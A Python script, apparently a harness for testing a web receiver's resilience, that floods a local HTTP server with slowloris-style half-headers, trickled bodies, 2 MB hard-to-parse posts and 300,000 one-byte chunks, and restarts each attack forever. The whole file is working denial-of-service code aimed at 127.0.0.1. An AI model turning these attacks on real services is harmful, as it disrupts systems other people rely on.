"""Attacks a receiver until it is killed: ``attacker.py PORT PATH KIND``.

``heads``: 1,000 connections that send half a head each, opened anew when they are closed.
``bodies``: 50 pushes whose bodies come an octet a second.
``big``: pushes of 2 MB of what takes long to read, two at once.
``chunks``: pushes in 300,000 chunks of one octet.
"""

import asyncio
import sys
from contextlib import suppress

PORT, PATH, KIND = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3]
HEAD = b"POST " + PATH + b"/%s HTTP/1.1\r\nHost: x\r\n%s\r\n\r\n"


async def connect() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Open a connection."""
    return await asyncio.open_connection("127.0.0.1", PORT)


async def heads() -> None:
    """Send half a head, and wait for the end."""
    reader, writer = await connect()
    writer.write(b"POST / HTTP/1.1\r\nHost: x\r\nX-Padding: x")
    await reader.read()
    writer.close()
    await asyncio.sleep(0.2)


async def bodies() -> None:
    """Send a body slowly."""
    reader, writer = await connect()
    writer.write(HEAD % (b"dlr", b"Content-Length: 1000"))
    while not reader.at_eof():
        writer.write(b" ")
        with suppress(TimeoutError):
            await asyncio.wait_for(reader.read(65536), 1)
    writer.close()


async def send(route: bytes, fields: bytes, body: bytes) -> None:
    """Send a push, and read the answer."""
    reader, writer = await connect()
    writer.write(HEAD % (route, fields))
    writer.write(body)
    await reader.readline()
    writer.close()


async def big() -> None:
    """Send much."""
    for octet in (b"%", b"\xfe", b"&", b";\n"):
        body = (b"dlr=" + octet * 2_000_000)[:2_000_000]
        await send(b"hlr", b"Content-Length: 2000000", body)


async def chunks() -> None:
    """Send little, often."""
    body = b"1\r\n \r\n" * 300_000 + b"0\r\n\r\n"
    await send(b"dlr", b"Transfer-Encoding: chunked", body)


async def forever(attack) -> None:
    """Begin again, whatever happens."""
    while True:
        try:
            await attack()
        except OSError:
            await asyncio.sleep(0.05)


async def main() -> None:
    """Attack."""
    count = {"heads": 1000, "bodies": 50, "big": 2, "chunks": 1}[KIND]
    await asyncio.gather(*(forever(globals()[KIND]) for _ in range(count)))


asyncio.run(main())
